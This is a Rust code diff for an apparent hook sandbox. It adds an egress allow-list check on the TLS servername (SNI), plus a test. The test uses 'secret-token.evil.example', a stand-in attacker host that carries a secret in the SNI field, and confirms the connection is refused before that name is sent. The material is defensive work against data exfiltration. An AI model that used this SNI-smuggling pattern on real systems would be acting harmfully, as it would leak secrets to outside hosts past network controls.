@@ -440,6 +440,7 @@ pub(crate) fn connect(
         credit: credit.clone(),
         log,
         _slots: (call_slot, permit),
+        policy: egress.clone(),
     };
     let join = handle.spawn(async move {
         let outcome = tokio::time::timeout(timeout, task.run(tls, ops_rx)).await;
@@ -738,6 +739,8 @@ struct Task {
     credit: Arc<Credit>,
     log: Log,
     _slots: (OwnedSemaphorePermit, OwnedSemaphorePermit),
+    /// The allow-list, for the `servername` of a TLS handshake.
+    policy: Egress,
 }
 
 enum Stream {
@@ -870,9 +873,14 @@ impl Task {
             });
         let server_name = ServerName::try_from(name.clone()).map_err(|_| Failure {
             code: "ERR_INVALID_ARG_VALUE",
-            message: format!("invalid servername `{name}`"),
+            message: format!("invalid servername {name:?}"),
             ..Failure::default()
         })?;
+        // SNI goes out in clear, to the peer and everyone on the path: a servername the hook
+        // chose is held to the allow-list as a host it names is (an address sends none).
+        if matches!(server_name, ServerName::DnsName(_)) && !self.policy.allows(&name) {
+            return Err(super::egress::forbidden(&name));
+        }
         let (config, recorder) = client_config(&opts)?;
         let connector = tokio_rustls::TlsConnector::from(config);
         let tls = connector
@@ -1308,5 +1316,37 @@ mod tests {
             .err()
             .expect("another hook");
         assert_eq!(other.code, "ERR_HOOKGATE_EGRESS");
+    }
+
+    #[test]
+    fn a_tls_servername_outside_allow_hosts_is_refused_before_it_is_sent() {
+        let rt = runtime();
+        let egress = egress(&rt, "allow_hosts = [\"127.0.0.1\"]");
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        std::thread::spawn(move || {
+            let conn = listener.accept();
+            std::thread::sleep(Duration::from_secs(5));
+            drop(conn);
+        });
+        let (tx, rx) = crossbeam_channel::unbounded();
+        let tls = TlsOptions {
+            servername: Some("secret-token.evil.example".into()),
+            ..TlsOptions::default()
+        };
+        let c = caller(4, Duration::from_secs(3));
+        let _h = connect(&egress, c, "127.0.0.1".into(), port, Some(tls), tx);
+        let failure = loop {
+            match rx
+                .recv_timeout(Duration::from_secs(10))
+                .expect("an event")
+                .kind
+            {
+                Kind::Failed(f) => break f,
+                Kind::Closed => panic!("closed without an error"),
+                _ => {}
+            }
+        };
+        assert_eq!(failure.code, "ERR_HOOKGATE_EGRESS", "{}", failure.message);
     }
 }
